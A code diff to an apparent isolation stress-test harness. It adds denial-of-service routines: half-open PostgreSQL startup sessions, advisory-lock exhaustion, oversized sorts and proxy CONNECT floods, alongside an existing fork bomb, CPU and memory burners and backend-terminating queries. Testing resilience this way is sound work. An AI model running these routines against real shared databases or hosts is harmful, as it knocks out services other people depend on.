@@ -10,13 +10,18 @@ import contextlib
 import http.server
 import os
 import socket
+import struct
 import subprocess
 import threading
 import time
 from pathlib import Path
+from urllib.parse import urlsplit
 
 HOME = Path(os.environ.get("HOME", "/"))
 PROXY = ("127.0.0.1", 3128)
+PROTOCOL = 196608
+"""Version 3.0 of PostgreSQL's."""
+SORT = "SELECT count(*) FROM (SELECT repeat(md5(i::text), 20) FROM generate_series(1, 1000000) i ORDER BY 1) x"
 MAX_TREES = 25
 DEPTH = 400
 
@@ -48,7 +53,7 @@ def fork_bomb(_: int) -> None:
 
 
 def hold_connections(_: int) -> None:
-    """To the proxy and to the services of whoever is reachable, without ever sending a whole request."""
+    """To the proxy and to its own host names, without ever sending a whole request."""
     held = []
     for target in [PROXY, ("127.0.0.1", int(os.environ["OWN_PORT"]))] * 100:
         with contextlib.suppress(OSError):
@@ -56,6 +61,43 @@ def hold_connections(_: int) -> None:
             made.sendall(b"GET / HTTP/1.1\r\n")
             held.append(made)
     time.sleep(0.5)
+    for made in held:
+        made.close()
+
+
+def hold_sessions(_: int) -> None:
+    """Sessions that never authenticate count for no role, but each takes one of PostgreSQL's processes."""
+    own = urlsplit(os.environ["DATABASE_URL"])
+    words = "".join(f"{word}\0" for word in ("user", own.username, "database", own.path[1:], "")).encode()
+    held = []
+    for _ in range(300):
+        with contextlib.suppress(OSError):
+            made = socket.create_connection((own.hostname, own.port), 1)
+            made.sendall(struct.pack("!ii", len(words) + 8, PROTOCOL) + words)
+            held.append(made)
+    time.sleep(5)
+    for made in held:
+        made.close()
+
+
+def take_locks(_: int) -> None:
+    """All of the table that PostgreSQL has for all databases, and keeps them."""
+    run_sql("LOCKS_URL", "SELECT count(pg_advisory_lock(i)) FROM generate_series(1, 200000) i", "SELECT pg_sleep(5)")
+
+
+def sort_without_end(number: int) -> None:
+    """In memory or in temporary files, in turn."""
+    memory = ("1GB", "64kB")[number % 2]
+    run_sql("SORTS_URL", f"SET work_mem = '{memory}'", SORT, times=8)
+
+
+def look_up_names(number: int) -> None:
+    held = []
+    for index in range(60):
+        with contextlib.suppress(OSError):
+            made = socket.create_connection(PROXY, 1)
+            made.sendall(f"CONNECT name-{number}-{index}.hostile.invalid:443 HTTP/1.1\r\n\r\n".encode())
+            held.append(made)
     for made in held:
         made.close()
 
@@ -96,15 +138,21 @@ def query(number: int) -> None:
         "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
         "SELECT pg_sleep(2)",
     ]
-    word = statements[number % len(statements)]
-    argv = [os.environ["PSQL"], "-X", "-q", "-d", os.environ["DATABASE_URL"], "-c", word]
-    sessions = [subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(4)]
+    run_sql("DATABASE_URL", statements[number % len(statements)], times=4)
+
+
+def run_sql(url: str, *statements: str, times: int = 1) -> None:
+    """Each database has a role of its own, so that a suspended one ends no other attack."""
+    argv = [os.environ["PSQL"], "-X", "-q", "-d", os.environ[url]]
+    argv += [word for statement in statements for word in ("-c", statement)]
+    sessions = [subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(times)]
     for session in sessions:
         session.wait()
 
 
 ATTACKS = (
-    burn_cpu, burn_cpu, fill_memory, fork_bomb, hold_connections, request_private_addresses, build_trees, query,
+    burn_cpu, burn_cpu, fill_memory, fork_bomb, hold_connections, hold_sessions, take_locks, sort_without_end,
+    look_up_names, request_private_addresses, build_trees, query,
 )  # fmt: skip
 
 
